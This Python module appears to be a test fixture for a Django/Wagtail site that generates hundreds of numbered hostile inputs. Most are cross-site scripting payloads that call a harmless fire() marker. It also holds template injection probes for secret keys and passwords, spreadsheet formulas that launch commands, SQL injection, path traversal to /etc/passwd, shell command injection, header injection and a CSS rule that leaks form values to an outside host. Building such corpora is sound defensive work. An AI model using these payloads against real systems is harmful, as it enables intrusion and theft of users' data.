"""What people type to hurt others: texts that try to run, to hide, to break out or to break us.

Each text that tries to run calls `fire` with its own number, so that whoever reads a page in a
browser knows which of them ran. `§` stands for that call. All are written for this site; the
families follow what is publicly known:

- elements, handlers, links, breakouts: OWASP's XSS Filter Evasion Cheat Sheet, PortSwigger's
  cross-site scripting cheat sheet, html5sec.org
- mutation, SVG, MathML, clobbering: the test corpus of cure53/DOMPurify
- bidirectional controls, homoglyphs: Boucher and Anderson, "Trojan Source"; Unicode TR 36 and 39
- formulas: OWASP, "CSV Injection"; templates: PortSwigger, "Server-side template injection"
- NUL, surrogates, length: minimaxir/big-list-of-naughty-strings
"""

import base64
from dataclasses import dataclass
from urllib.parse import quote

CALL = "§"
BODY = "{}"


@dataclass(frozen=True)
class Text:
    number: int
    family: str
    text: str
    raw: str | None
    """The piece of a page in which it runs where nobody takes care; None where it is no script."""

    @property
    def runs(self):
        return self.raw is not None


def b64(html):
    return base64.b64encode(html.encode()).decode()


def decimal(text):
    return "".join(f"&#{ord(letter)};" for letter in text)


def hexadecimal(text):
    return "".join(f"&#x{ord(letter):x};" for letter in text)


def escaped(text):
    """As in a script: \\u0066ire."""
    return "".join(f"\\u{ord(letter):04x}" for letter in text)


ELEMENTS = [
    "<script>§</script>",
    "<ScRiPt>§</sCrIpT>",
    "<script\n>§</script\n>",
    "<script/x>§</script/x>",
    "<script\f>§</script>",
    "<script type=module>§</script>",
    "<script type=text/javascript async>§</script>",
    "<script src=data:text/javascript,§></script>",
    "<script src='data:text/javascript;charset=utf-8,§'></script>",
    "<script>/*</script><script>*/§</script>",
    "<script><!--\n§\n--></script>",
    "<<script>§//<</script>",
    "<script>§//",
    "<b><script>§</script></b>",
    "</p><script>§</script><p>",
    "<noscript><p title='</noscript><script>§</script>'>",
    "<template shadowrootmode=open><script>§</script></template>",
    lambda call: f"<script>{escaped(call[:4])}{call[4:]}</script>",
    lambda call: f"<script>eval(atob('{b64(call)}'))</script>",
    lambda call: f"<script src=data:text/javascript;base64,{b64(call)}></script>",
]

# They run as soon as they stand in a page.
HANDLERS_AT_ONCE = [
    "<img src=x onerror=§>",
    "<img src onerror=§>",
    '<img src="x" onerror="§">',
    "<img src='x' onerror='§'>",
    "<img src=`x` onerror=§>",
    "<IMG SRC=x ONERROR=§>",
    "<img/src=x/onerror=§>",
    "<img\tsrc=x\tonerror=§>",
    "<img\nsrc=x\nonerror=\n§>",
    "<img \f src=x \f onerror=§>",
    "<img src=x:x onerror=§ //",
    "<img src=x onerror=§//",
    "<img ''src=x onerror=§>",
    '<img """><img src=x onerror=§>',
    "<img src=x oNeRrOr = §>",
    "<img src=x onerror\n=\n§>",
    "<image src=x onerror=§>",
    "<image href=x onerror=§>",
    "<img srcset=x onerror=§>",
    "<img srcset='data:,x 1x' onerror=§>",
    "<picture><source srcset=x><img onerror=§ src=y></picture>",
    "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=§ onerror=§>",
    "<video src=x onerror=§></video>",
    "<video><source onerror=§ src=x></video>",
    "<audio src=x onerror=§></audio>",
    "<audio src onloadstart=§ onerror=§>",
    "<video poster=x onloadstart=§ src=x>",
    "<body onload=§>",
    "<body onpageshow=§>",
    "<iframe onload=§></iframe>",
    "<iframe srcdoc='<script>parent.§</script>'></iframe>",
    "<iframe srcdoc='<img src=x onerror=parent.§>'></iframe>",
    "<iframe src=javascript:parent.§></iframe>",
    "<frameset onload=§>",
    "<object data=x onerror=§></object>",
    "<object data=javascript:§></object>",
    "<embed src=javascript:parent.§>",
    "<link rel=stylesheet href=data:text/css, onload=§>",
    "<link rel=stylesheet href=x:x onerror=§>",
    "<style onload=§></style>",
    "<style>@import 'x:x'</style><style onload=§ onerror=§>x{}</style>",
    "<script src=x onerror=§></script>",
    "<input type=image src=x onerror=§>",
    "<details open ontoggle=§>x",
    "<marquee onstart=§>x</marquee>",
    "<marquee loop=1 width=0 onfinish=§ onstart=§>x</marquee>",
    "<track onerror=§>",
    "<input autofocus onfocus=§>",
    "<textarea autofocus onfocus=§></textarea>",
    "<select autofocus onfocus=§></select>",
    "<a autofocus tabindex=1 onfocus=§>x</a>",
    "<x contenteditable autofocus onfocus=§>x",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=§>x</b>",
    "<style>@keyframes k{to{left:0}}</style><i style=animation:k onanimationend=§>x</i>",
    lambda call: f"<img src=x onerror={decimal(call)}>",
    lambda call: f"<img src=x onerror={hexadecimal(call)}>",
    lambda call: f"<img src=x onerror={escaped(call[:4])}{call[4:]}>",
    lambda call: f"<img src=x onerror=&#0000102{call[1:]}>",
    lambda call: f"<img src=x onerror=window['{call[:2]}'+'{call[2:4]}']{call[4:]}>",
    lambda call: f"<img src=x onerror=eval(atob('{b64(call)}'))>",
    lambda call: f"<iframe srcdoc='{hexadecimal(f'<script>parent.{call}</script>')}'></iframe>",
]

# They run when somebody hovers, clicks, types or touches.
HANDLERS_ON_TOUCH = [
    "<b onmouseover=§>x</b>",
    '<b onmouseover="§">x</b>',
    "<b onmouseenter=§>x</b>",
    "<b onmousemove=§>x</b>",
    "<b onmouseout=§>x</b>",
    "<b onmouseleave=§>x</b>",
    "<b onmousedown=§>x</b>",
    "<b onmouseup=§>x</b>",
    "<b onpointerover=§>x</b>",
    "<b onpointerenter=§>x</b>",
    "<b onpointerdown=§>x</b>",
    "<b onpointerrawupdate=§>x</b>",
    "<b onclick=§>x</b>",
    "<b ondblclick=§>x</b>",
    "<b onauxclick=§>x</b>",
    "<b oncontextmenu=§>x</b>",
    "<b onwheel=§>x</b>",
    "<b onselectstart=§>x</b>",
    "<b ontouchstart=§>x</b>",
    "<b oncopy=§ contenteditable>x</b>",
    "<b oncut=§ contenteditable>x</b>",
    "<b onpaste=§ contenteditable>x</b>",
    "<b onbeforeinput=§ contenteditable>x</b>",
    "<b draggable=true ondragstart=§>x</b>",
    "<b ondrop=§>x</b>",
    "<b tabindex=1 onfocus=§>x</b>",
    "<b tabindex=1 onfocusin=§>x</b>",
    "<b tabindex=1 onblur=§>x</b>",
    "<b tabindex=1 onkeydown=§ accesskey=x>x</b>",
    "<b tabindex=1 onkeyup=§>x</b>",
    "<input onfocus=§>",
    "<input oninput=§>",
    "<input onchange=§>",
    "<input oninvalid=§ required>",
    "<input type=search onsearch=§>",
    "<form onreset=§><input type=reset>x</form>",
    "<form onsubmit=§><button>x</button></form>",
    "<select onchange=§><option>1<option>2</select>",
    "<dialog oncancel=§ open>x</dialog>",
    "<div popover id=p onbeforetoggle=§>x</div><button popovertarget=p>x</button>",
    "<b onscroll=§ style=overflow:scroll>x</b>",
    "<b style=position:fixed;inset:0 onmouseover=§>x</b>",
    "<label onclick=§>x<input></label>",
    "<body onhashchange=§><a href=#x>x</a>",
    "<details ontoggle=§><summary>x</summary></details>",
]

LINKS_IN_MARKUP = [
    "<a href=javascript:§>x</a>",
    '<a href="javascript:§;">x</a>',
    "<a href='JaVaScRiPt:§'>x</a>",
    "<a href=' javascript:§'>x</a>",
    "<a href='\x01javascript:§'>x</a>",
    "<a href='java\tscript:§'>x</a>",
    "<a href='java\nscript:§'>x</a>",
    "<a href='java&Tab;script&colon;§'>x</a>",
    "<a href='java&NewLine;script:§'>x</a>",
    "<a href=&#106;avascript:§>x</a>",
    "<a href=&#x6A&#x61vascript:§>x</a>",
    "<a href=javascript&#58;§>x</a>",
    "<a href='javascript://x%0a§'>x</a>",
    "<a href=javascript:§ target=_blank rel=opener>x</a>",
    "<a href=# onclick=§>x</a>",
    "<a href=https://example.org onclick=§>x</a>",
    "<a href='https://example.org' title='' onmouseover='§'>x</a>",
    "<area href=javascript:§ shape=default>",
    "<map name=m><area shape=rect coords=0,0,9,9 href=javascript:§></map><img usemap=#m>",
    "<form action=javascript:§><button>x</button></form>",
    "<form action=javascript:§><input type=submit></form>",
    "<form action=javascript:§><input type=image src=x></form>",
    "<form><button formaction=javascript:§>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:§>x</button>",
    "<form><input type=submit formaction=javascript:§ value=x></form>",
    "<base href=javascript:/><a href=/**/§>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:§'>",
    "<link rel=import href='data:text/html,<script>§</script>'>",
    "<isindex action=javascript:§ type=submit value=x>",
    lambda call: f"<a href={hexadecimal(f'javascript:{call}')}>x</a>",
    lambda call: f"<iframe src='data:text/html;base64,{b64(f'<script>{call}</script>')}'>",
]

SVG = [
    "<svg onload=§>",
    "<svg/onload=§>",
    "<svg onload=§//",
    "<svg><script>§</script></svg>",
    "<svg><script href=data:text/javascript,§ /></svg>",
    "<svg><script xlink:href=data:text/javascript,§ /></svg>",
    "<svg><script>&#102;ire&#40;0);§</script></svg>",
    "<svg><a href=javascript:§><text y=20>x</text></a></svg>",
    "<svg><a xlink:href=javascript:§><text y=20>x</text></a></svg>",
    "<svg><a xlink:href=&#106;avascript:§><rect width=9 height=9 /></a></svg>",
    "<svg><animate onbegin=§ attributeName=x dur=1s></svg>",
    "<svg><animate onbegin='§' attributeName=x></svg>",
    "<svg><set onbegin=§ attributeName=x></svg>",
    "<svg><animateTransform onbegin=§ attributeName=transform></svg>",
    "<svg><animateMotion onbegin=§></svg>",
    "<svg><animate onend=§ attributeName=x dur=0.01s></svg>",
    "<svg><image href=x onerror=§></svg>",
    "<svg><image xlink:href=x onerror=§></svg>",
    "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
    "<svg><desc><img src=x onerror=§></desc></svg>",
    "<svg><title><img src=x onerror=§></title></svg>",
    "<svg><style><img src=x onerror=§></style></svg>",
    "<svg><g onmouseover=§><rect width=9 height=9 /></g></svg>",
    "<svg><circle r=9 onclick=§ /></svg>",
    "<svg><text tabindex=1 onfocus=§>x</text></svg>",
    "<svg><a><animate attributeName=href values=javascript:§ /><text y=20>x</text></a></svg>",
    "<svg><a id=s><set attributeName=href to=javascript:§ /><text y=20>x</text></a></svg>",
    '<svg><use href=\'data:image/svg+xml,<svg id=x xmlns="http://www.w3.org/2000/svg"'
    '><a href="javascript:§"><rect/></a></svg>#x\'/></svg>',
    "<svg><handler type=text/javascript ev:event=load>§</handler></svg>",
    "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='§'/>",
    "<!DOCTYPE svg [<!ENTITY e 'x' >]><svg onload=§>&e;</svg>",
]

MATHML = [
    "<math><mi onclick=§>x</mi></math>",
    "<math><mi onmouseover=§>x</mi></math>",
    "<math href=javascript:§>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:§>x</maction></math>",
    "<math><mtext><img src=x onerror=§></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=§></annotation-xml></math>",
    "<math><ms><script>§</script></ms></math>",
    "<math><mi tabindex=1 onfocus=§>x</mi></math>",
]

# Harmless to who reads them once, and not to who reads what the first has written.
MUTATION = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=§>">',
    "<math><mtext><table><mglyph><style><math><img src=x onerror=§></style></table></mtext>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>",
    '<svg></p><style><a id="</style><img src=x onerror=§>">',
    '<svg><p><style><g title="</style><img src=x onerror=§>">',
    '<svg><style><g title="</style><img src=x onerror=§>"></style></svg>',
    '<math><mi><table><mi><style><!--</style><img title="--><img src=x onerror=§>">',
    '<math><annotation-xml><style><img title="</style><img src=x onerror=§>">',
    "<noscript><style></noscript><img src=x onerror=§></style>",
    '<xmp><p title="</xmp><img src=x onerror=§>">',
    '<noembed><p title="</noembed><img src=x onerror=§>">',
    '<noframes><p title="</noframes><img src=x onerror=§>">',
    '<iframe><p title="</iframe><img src=x onerror=§>">',
    "<select><template><img src=x onerror=§></template></select><img src=x onerror=§>",
    "<select><style></select><img src=x onerror=§></style>",
    "<table><a href='<img src=x onerror=§>'><tr><td><img src=x onerror=§>",
    "<p><svg><desc><style><!--</desc></svg><img src=x onerror=§>--></style>",
    "<listing>&lt;img src=x onerror=§&gt;</listing><img src=x onerror=§>",
    "<a title='`'><img src=x onerror=§>`'>x</a>",
    '<b title="`onmouseover=§ ">x</b><b onmouseover=§>y</b>',
    "<!--><img src=x onerror=§>-->",
    "<!---!><img src=x onerror=§>-->",
    "<!--x--!><img src=x onerror=§>-->",
    "<![CDATA[><img src=x onerror=§>]]>",
    "<?x ><img src=x onerror=§>?>",
    "</ x><img src=x onerror=§>",
    "<svg><![CDATA[</svg><img src=x onerror=§>]]>",
    "<style><!--</style><img src=x onerror=§>--></style>",
    '<title><a title="</title><img src=x onerror=§>">',
]

MISSHAPEN = [
    "< img src=x onerror=§><img src=x onerror=§>",
    "<img src=x onerror=§",
    "<img src=x onerror=§ <b>x</b>",
    "<x/onclick=§>x",
    "<x onclick=§ y=1>x</x>",
    "<a\x0bonclick=§>x</a><a onclick=§>y</a>",
    "<b/\x00/onclick=§>x</b><b onclick=§>y</b>",
    "<0><img src=x onerror=§>",
    "<img src=x onerror=§ onerror=1>",
    "<img src=x alt='a' 'b' onerror=§>",
    '<img src=x alt="a"b"onerror=§ c=">',
    '<p ="><img src=x onerror=§>">',
    "<script>x</script ><img src=x onerror=§>",
    "<plaintext><img src=x onerror=§>",
    "<b><i><b></i><img src=x onerror=§></b>",
    "%3Cimg src=x onerror=§%3E<img src=x onerror=§>",
    "&lt;img src=x onerror=§&gt;<img src=x onerror=§>",
    "\\u003cimg src=x onerror=§\\u003e<img src=x onerror=§>",
    "\ufeff<img src=x onerror=§>",
    "\u2028<img src=x onerror=§>\u2029",
    "<img\u00a0src=x onerror=§><img src=x onerror=§>",
    "＜img src=x onerror=§＞",
    "<ımg src=x onerror=§><img src=x onerror=§>",
    "<ſcript>§</ſcript>",
    "+ADw-img src=x onerror=§+AD4-",
]

OUT_OF_DOUBLE_QUOTES = [
    '"><script>§</script>',
    '"><img src=x onerror=§>',
    '"/><svg onload=§>',
    '" onmouseover="§',
    '" onclick="§" x="',
    '" autofocus onfocus="§',
    '"onpointerenter="§"',
    '"\nonmouseover\n=\n"§',
    '" style="animation-name:x" onanimationstart="§" onmouseover="§',
    '"/onclick="§//',
    '\\"><img src=x onerror=§>',
    '&quot;><img src=x onerror=§>"><img src=x onerror=§>',
]

OUT_OF_SINGLE_QUOTES = [
    "'><script>§</script>",
    "'><img src=x onerror=§>",
    "' onmouseover='§",
    "' onclick='§' x='",
    "' autofocus onfocus='§",
    "\\'><svg onload=§>",
    "&#39;><img src=x onerror=§>'><img src=x onerror=§>",
]

OUT_OF_NO_QUOTES = [
    "x onmouseover=§",
    "x/onclick=§",
    "x><img src=x onerror=§>",
    "x\tonclick=§",
    "x\x0conclick=§",
    "`onclick=§ y=`",
]

OUT_OF_A_TITLE = [
    "</title><script>§</script>",
    "</title ><svg onload=§>",
    "</TITLE/><img src onerror=§>",
]
OUT_OF_A_FIELD = ["</textarea><script>§</script>", "</textarea\n><img src=x onerror=§>"]
OUT_OF_A_STYLE = ["</style><script>§</script>", "}</style ><svg onload=§>"]
OUT_OF_A_COMMENT = ["--><script>§</script>", "--!><img src=x onerror=§>", "><svg onload=§>"]
OUT_OF_A_TEMPLATE = ["</template><script>§</script>", "</template><img src=x onerror=§>"]

OUT_OF_A_SCRIPT = [
    "</script><script>§</script>",
    "</script ><img src=x onerror=§>",
    "</SCRIPT/><svg onload=§>",
    '"};</script><script>§</script>',
    '"+§+"',
    '";§//',
    '"-§-"',
    '\\";§//',
    '"}];§;[{"',
    '\u2028;§;//"</script><script>§</script>',
    '<!--<script>"</script><script>§</script>',
]

OUT_OF_A_SCRIPT_IN_SINGLE_QUOTES = ["'+§+'", "';§//", "'-§-'", "\\';§//", "'});§;({x:'"]

INTO_A_TEMPLATE_LITERAL = ["${§}", "`+§+`", "`;§//", "${`${§}`}"]

SCRIPT_ADDRESSES = [
    "javascript:§",
    "JAVASCRIPT:§",
    "jAvAsCrIpT:§",
    " javascript:§",
    "\tjavascript:§",
    "\njavascript:§",
    "\x01javascript:§",
    "\x1bjavascript:§",
    "java\tscript:§",
    "java\nscript:§",
    "java\r\nscript:§",
    "javascript\t:§",
    "javascript:\n§",
    "javascript://example.org/%0a§",
    "javascript:/*https://example.org/*/§",
    "javascript:void(§)",
    "javascript:'<script>parent.opener</script>';§",
    "&#106;avascript:§",
    "javascript&colon;§",
    "java&#x09;script:§",
    "&#0000106&#0000097vascript:§",
    "javascript:%66ire%28§)",
    "javascript:eval('§')",
    lambda call: f"javascript:{quote(call, safe='')}",
    lambda call: f"javascript:eval(atob('{b64(call)}'))",
    lambda call: f"javascript:{escaped(call[:4])}{call[4:]}",
]

DATA_ADDRESSES = [
    "data:text/html,<script>§</script>",
    "DATA:text/html,<script>§</script>",
    "data:,<script>§</script>",
    "data:text/html;charset=utf-8,<svg onload=§>",
    "data:text/html,%3Cscript%3E§%3C/script%3E",
    "data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22§%22/>",
    "data:application/xhtml+xml,<script xmlns=%22http://www.w3.org/1999/xhtml%22>§</script>",
    "d\nata:text/html,<script>§</script>",
    lambda call: f"data:text/html;base64,{b64(f'<script>{call}</script>')}",
]

OTHER_ADDRESSES = [
    "vbscript:§",
    "VBSCRIPT:msgbox(§)",
    "livescript:§",
    "mocha:§",
    "jar:javascript:§!/",
    "view-source:javascript:§",
    "blob:https://example.org/§",
    "filesystem:https://example.org/temporary/§",
    "feed:javascript:§",
    "file:///etc/passwd#§",
    "//example.org/§",
    "\\\\example.org\\§",
    "/\\example.org/§",
    "https:example.org/§",
    "http://example.org@127.0.0.1/§",
    "intent://x#Intent;scheme=javascript;S.x=§;end",
]

# They pass for addresses of the web, and are stored.
WEB_ADDRESSES = [
    'https://example.org/"onmouseover="§',
    'https://example.org/"><img/src=x/onerror=§>',
    "https://example.org/'><svg/onload=§>",
    'https://example.org/?"autofocus/onfocus="§',
    "https://example.org/?x=</script><script>§</script>",
    "https://example.org/#</title><script>§</script>",
    'https://example.org/\\"};§//',
    "https://example.org/?next=javascript:§",
    'https://example.org/"/onclick="§"',
    "https://example.org/?{{constructor.constructor('§')()}}",
]

# So do these for addresses of mail.
MAIL_ADDRESSES = [
    '"<svg/onload=§>"@example.org',
    '"<script>§</script>"@example.org',
    '"><img/src=x/onerror=§>"@example.org',
    "\"'-§-'\"@example.org",
    "'onclick='§'@example.org",
    "`onmouseover=§`@example.org",
    '"{{constructor.constructor(§)()}}"@example.org',
    "=cmd|'/c§'!a1@example.org",
]

# What a template language would make of them: 8827.
TEMPLATES = [
    "{{ 91*97 }}",
    "{{91*97}}",
    "{% if 91 %}{{ 91|mul:97 }}{% endif %}",
    "${91*97}",
    "#{91*97}",
    "<%= 91*97 %>",
    "@(91*97)",
    "{91*97}",
    "[[91*97]]",
    "{{= 91*97 }}",
    "*{91*97}",
    "~{91*97}",
    "{{ [91*97]|first }}",
    "{{ ''.__class__.__mro__ }}{{ 91*97 }}",
    "{{ range.constructor('return 91*97')() }}",
    "{{#with 91}}{{lookup this 97}}{{/with}}",
    "%{91*97}",
    "$(( 91*97 ))",
    "`91*97`",
    "(91*97).__str__()",
    "{{ config.items() }}{{ 91*97 }}",
    "{%25 print 91*97 %25}",
    "\\u007b\\u007b 91*97 }}",
    "{{'8'~'827'}}",
]

# What Django's own would make of them: other people's secrets, errors, other texts.
DJANGO_TEMPLATES = [
    "{% debug %}",
    "{% load static %}{% static 'x' %}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% include 'base.html' %}",
    "{% extends 'x' %}",
    "{% csrf_token %}",
    "{# x",
    "{% comment %}",
    "{% verbatim %}",
    "{% widthratio 91 1 97 %}",
    "{{ x|safe }}{% autoescape off %}",
    "%(title)s %(x)d %s %n %",
    "{0.__class__} {}",
    "{{ block.super }}",
    "%(",
    "%%(title)s",
]

FRAMEWORKS = [
    "{{constructor.constructor('§')()}}",
    "{{$on.constructor('§')()}}",
    "{{[].pop.constructor('§')()}}",
    "<div ng-app ng-init=\"constructor.constructor('§')()\">x</div>",
    '<div x-data x-init="§">x</div>',
    "<div v-html=\"'<img src=x onerror=§>'\">x</div>",
    '<div v-on:click.once="§" @click="§">x</div>',
    '<div hx-on:load="§" hx-trigger=load hx-get=javascript:§>x</div>',
    '<div data-controller=w-init data-w-init-event-value=x data-action="click->§">x</div>',
    '<div data-controller=w-tooltip data-w-tooltip-content-value="<img src=x onerror=§>">x</div>',
    "<i data-controller=w-dialog><template id=x><script>§</script></template></i>",
    "<i data-controller=w-action data-w-action-url-value=javascript:§>x</i>",
    '<a data-tippy-content="<svg onload=§>" data-tippy-allowhtml=true>x</a>',
    '<div data-block data-value=\'{"x": "</script><script>§</script>"}\'>x</div>',
    '<div data-bs-toggle=tooltip data-bs-html=true title="<img src=x onerror=§>">x</div>',
]

CLOBBERING = [
    "<form name=wagtailConfig><input name=ADMIN_API></form>",
    "<a id=wagtailConfig href=javascript:§>x</a><a id=wagtailConfig name=x>y</a>",
    "<img name=getElementById>",
    "<form id=document><input name=cookie></form>",
    "<a id=telepath></a><a id=telepath name=unpack>x</a>",
    "<iframe name=Stimulus srcdoc='<a id=x>'></iframe>",
    "__proto__",
    "constructor.prototype.x",
    '{"__proto__": {"x": "§"}}',
    "toString",
    "valueOf",
]

STYLES = [
    "x:expression(§)",
    "background:url(javascript:§)",
    "background:url('data:text/html,<script>§</script>')",
    "-moz-binding:url(data:text/xml,§)",
    "behavior:url(#default#time2)§",
    "<style>@import 'javascript:§';</style>",
    "<style>*{background:url(javascript:§)}</style>",
    "<style>body{display:none}/*§*/</style>",
    "<style>*:before{content:'§'}</style>",
    "<link rel=stylesheet href=javascript:§>",
    '<div style="x:expression(§)">x</div>',
    '<div style="position:fixed;inset:0;z-index:9999">§</div>',
    "<style>input[value^=a]{background:url(//example.org/a)}</style>",
    "}*{color:red}/*§",
    "\\3c img src=x onerror=§\\3e",
    "<table background=javascript:§><tr><td>x</table>",
]

# U+202A to U+202E, U+2066 to U+2069: what stands behind them is read in another order.
BIDIRECTIONAL = [
    "\u202egnp.exe",
    "Report\u202efdp.exe",
    "\u202dabc\u202c",
    "\u202babc",
    "\u202aabc",
    "abc\u202c",
    "\u2066abc",
    "\u2067abc",
    "\u2068abc",
    "abc\u2069",
    "\u2069\u202eabc",
    "\u202e\u202d\u202e\u202d",
    "a\u202eb\u202cc\u202ed",
    "\u2067\u202e<b>x</b>",
    "سلام\u202eabc",
    "\u202e" * 70,
    "\u2067" * 130,
    "Admin\u202e\u2066// ok\u2069\u2066",
    "\u061c\u200f\u200eabc",
    "\u202e)moc.elpmaxe(",
]

LOOK_ALIKES = [
    "Αdmin",
    "Аdmіn",
    "ａｄｍｉｎ",
    "admın",
    "аррӏе.com",
    "gооgle",
    "𝐀𝐝𝐦𝐢𝐧",
    "ⓐⓓⓜⓘⓝ",
    "rn-m",
    "l1I|",
    "https://ехample.org",
    "https://example．org",
    "https://example。org",
    "ﬁle",
    "Å Å Å",
    "é é",
]

INVISIBLE = [
    "\u200b",
    "ad\u200bmin",
    "\u200b<\u200bscript>",
    "\u200d\u200c",
    "\u2060x\u2060",
    "\ufeffx",
    "\u00adx",
    "\u180ex",
    "\u034fx",
    "\u115f\u1160",
    "\u3164",
    "\U000e0001\U000e0041",
    "x\ufe0f",
    "\u2800",
    "Z\u0300" + "\u0310\u0334\u0338" * 30,
    "\u00a0",
]

HEADERS = [
    "x\r\nSet-Cookie: fired=1",
    "x\r\nBcc: all@example.org",
    "x\nLocation: //example.org",
    "x\r\n\r\n<script>§</script>",
    "x%0d%0aSet-Cookie:fired=1",
    "x%0aBcc:all@example.org",
    "x\rX-Fired: 1",
    "x\u2028X-Fired: 1",
    "x\u0085X-Fired: 1",
    "x\u560d\u560aSet-Cookie: fired=1",
    '"; filename="x.html',
    "x.html\r\nContent-Type: text/html",
    "x\x0bX-Fired: 1",
    "=?utf-8?q?=0d=0aBcc:_all@example.org?=",
]

NULS = [
    "\x00",
    "a\x00b",
    "<scr\x00ipt>§</scr\x00ipt>",
    "javascript\x00:§",
    "x.png\x00.html",
    "\x00\x00\x00",
    "%00",
    "\\0",
    "\\u0000",
    "&#0;",
    "\u2400",
    "\x01\x02\x03\x1f\x7f",
    "\x1b[31mred\x1b[0m",
    "\x08\x08\x08",
]

SURROGATES = [
    "\\ud800",
    "\\udfff\\ud800",
    "&#xd800;",
    "&#55296;",
    "%ed%a0%80",
    "\ufffe\uffff",
    "\U0010ffff",
    "\U0001f468\u200d\U0001f469",
    "\ufffd",
    "%ff%fe",
    "%c0%bcscript>",
    "\ufdd0",
]

FORMULAS = [
    "=1+2",
    '=cmd|"/c calc"!A1',
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "＝1+2",
    "＋1+2",
    "－1+2",
    "＠SUM(1)",
    '=HYPERLINK("https://example.org","x")',
    ";=1+2",
    ",=1+2",
    '"=1+2',
    "|=1+2",
    " =1+2",
    "%=1+2",
    "'=1+2",
    "=-1+2;x",
    '=IMPORTXML("https://example.org","//a")',
    "-2+3+cmd|' /C calc'!A0",
    "\ufeff=1+2",
]

SQL_AND_PATHS = [
    "' OR 1=1 --",
    "'; DROP TABLE wagtailcore_page; --",
    "1' UNION SELECT 1--",
    "\\' OR 1=1",
    "%' OR '%'='",
    "_%_%_%",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file.png/../../x",
    "CON",
    "NUL.txt",
    "~root",
    "; ls",
    "$(ls)",
    "| ls",
    "`ls`",
    "&& ls",
    "*",
    "()",
    "((((((((((",
    "[",
    "\\",
    '""',
    "'",
    "AND OR NOT",
    "&:*",
    "<->",
]

JSON = [
    "null",
    "true",
    "[]",
    "{}",
    "NaN",
    "1e999",
    '{"blocks": []}',
    '{"a": ',
    '"',
    "[" * 400,
    '{"type": "text"}',
    '[{"type":"text","value":"<script>§</script>"}]',
]

LONG = [
    "a" * 10_000,
    "<" * 5_000,
    "<b>" * 2_000,
    "&amp;" * 2_000,
    "शान्ति" * 1_000,
    "&" * 256,
    "x " * 2_000,
    '"' * 300,
    "<script>" * 60 + "§",
]

# What Draftail sends of a rich text is JSON: these are its links and entities.
RICH_TEXT = [
    '<a href="javascript:§">x</a>',
    '<a linktype="page" id="1" onclick="§">x</a>',
    '<a linktype="page" id="x&quot; onclick=&quot;§">x</a>',
    '<a linktype="document" id="1\'><img src=x onerror=§>">x</a>',
    '<a linktype="nothing" href="javascript:§">x</a>',
    '<a href="https://example.org" onmouseover="§">x</a>',
    '<embed embedtype="image" id="1" format="x" alt="&quot;><img src=x onerror=§>"/>',
    '<embed embedtype="media" url="javascript:§"/>',
    '<embed embedtype="x" onerror="§"/>',
    '<p data-block-key="x&quot; onclick=&quot;§">x</p>',
    '<b onclick="§">x</b>',
    '<i style="x" onmouseover="§">x</i>',
    '<ul><li onclick="§">x</li></ul>',
    '<h2 onclick="§">x</h2>',
]

IN_A_PAGE = "<div>{}</div>"

# {name: (the piece of a page in which they would run, or None; the texts)}
FAMILIES = {
    "script elements": (IN_A_PAGE, ELEMENTS),
    "handlers that run at once": (IN_A_PAGE, HANDLERS_AT_ONCE),
    "handlers that wait for a hand": (IN_A_PAGE, HANDLERS_ON_TOUCH),
    "links in markup": (IN_A_PAGE, LINKS_IN_MARKUP),
    "SVG": (IN_A_PAGE, SVG),
    "MathML": (IN_A_PAGE, MATHML),
    "mutation": (IN_A_PAGE, MUTATION),
    "misshapen markup": (IN_A_PAGE, MISSHAPEN),
    "rich text as it is stored": (IN_A_PAGE, RICH_TEXT),
    "out of double quotes": ('<input value="{}">', OUT_OF_DOUBLE_QUOTES),
    "out of single quotes": ("<input value='{}'>", OUT_OF_SINGLE_QUOTES),
    "out of no quotes": ("<input value={}>", OUT_OF_NO_QUOTES),
    "out of a title": ("<title>{}</title>", OUT_OF_A_TITLE),
    "out of a field": ("<textarea>{}</textarea>", OUT_OF_A_FIELD),
    "out of a style": ("<style>{}</style>", OUT_OF_A_STYLE),
    "out of a comment": ("<!--{}-->", OUT_OF_A_COMMENT),
    "out of a template": ("<template>{}</template>", OUT_OF_A_TEMPLATE),
    "out of a script": ('<script>x = "{}"</script>', OUT_OF_A_SCRIPT),
    "out of single quotes in a script": (
        "<script>x = '{}'</script>",
        OUT_OF_A_SCRIPT_IN_SINGLE_QUOTES,
    ),
    "into a template literal": ("<script>x = `{}`</script>", INTO_A_TEMPLATE_LITERAL),
    "script addresses": ('<a href="{}">x</a>', SCRIPT_ADDRESSES),
    "data addresses": ("<iframe src='{}'></iframe>", DATA_ADDRESSES),
    "addresses of the web": ('<a href="{}">x</a>', WEB_ADDRESSES),
    "addresses of mail": (IN_A_PAGE, MAIL_ADDRESSES),
    "other addresses": (None, OTHER_ADDRESSES),
    "templates": (None, TEMPLATES),
    "Django's templates": (None, DJANGO_TEMPLATES),
    "frameworks": (None, FRAMEWORKS),
    "clobbering": (None, CLOBBERING),
    "styles": (None, STYLES),
    "bidirectional controls": (None, BIDIRECTIONAL),
    "look-alikes": (None, LOOK_ALIKES),
    "invisible letters": (None, INVISIBLE),
    "headers": (None, HEADERS),
    "NUL and controls": (None, NULS),
    "surrogates": (None, SURROGATES),
    "formulas": (None, FORMULAS),
    "SQL and paths": (None, SQL_AND_PATHS),
    "JSON": (None, JSON),
    "long": (None, LONG),
}


def _made():
    for family, (raw, items) in FAMILIES.items():
        for item in items:
            number = len(TEXTS) + 1
            call = f"fire({number})"
            text = item(call) if callable(item) else item.replace(CALL, call)
            TEXTS.append(Text(number, family, text, raw and raw.replace(BODY, text)))


TEXTS = []
_made()
